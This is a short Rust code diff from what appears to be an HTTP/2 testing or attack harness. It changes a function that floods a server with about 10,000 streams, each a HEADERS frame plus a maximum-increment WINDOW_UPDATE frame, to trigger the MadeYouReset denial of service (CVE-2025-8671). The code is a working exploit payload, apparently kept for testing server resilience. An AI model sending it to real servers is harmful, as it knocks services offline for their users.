@@ -61,13 +61,13 @@ pub async fn empty_data(io: &mut TcpStream) {
     until_ended(io, &bytes).await;
 }
 
-/// Requests that the server must reset (MadeYouReset, CVE-2025-8671): each increments its window by nothing.
+/// Requests that the server must reset (MadeYouReset, CVE-2025-8671): each increments its window beyond the largest.
 pub async fn made_to_reset(io: &mut TcpStream) {
     const WINDOW_UPDATE: u8 = 8;
     let mut bytes = opening();
     for stream in (1..20_000).step_by(2) {
         bytes.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, GET));
-        bytes.extend(frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes()));
+        bytes.extend(frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffff_u32.to_be_bytes()));
     }
     until_ended(io, &bytes).await;
 }
